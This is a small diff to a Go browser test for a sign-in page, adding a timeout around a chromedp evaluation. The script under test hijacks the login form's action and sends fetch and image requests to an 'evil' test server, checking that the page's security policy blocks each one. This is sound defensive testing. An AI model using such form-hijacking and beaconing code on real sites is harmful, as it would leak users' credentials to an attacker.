@@ -193,7 +193,9 @@ func TestSignInPageIsConfined(t *testing.T) {
 	if text := reads(t, tab, problem); !strings.Contains(text, "redirect_uri is not allowed") {
 		t.Errorf("for an address of somebody else the page says %q", text)
 	}
-	violations, err := chromedp.Run(tab, chromedp.Evaluate[int](`new Promise(done => { let n = 0; addEventListener("securitypolicyviolation", () => ++n == 4 && done(n));
+	bounded, cancel := context.WithTimeout(tab, patience)
+	defer cancel()
+	violations, err := chromedp.Run(bounded, chromedp.Evaluate[int](`new Promise(done => { let n = 0; addEventListener("securitypolicyviolation", () => ++n == 4 && done(n));
 		const form = document.getElementById("login"); form.action = "`+evil.URL+`/form"; HTMLFormElement.prototype.submit.call(form);
 		fetch("`+evil.URL+`/fetch").catch(() => {}); new Image().src = "`+evil.URL+`/image";
 		try { document.body.innerHTML = "<b>x</b>"; } catch (e) {} })`, chromedp.EvalAwaitPromise))
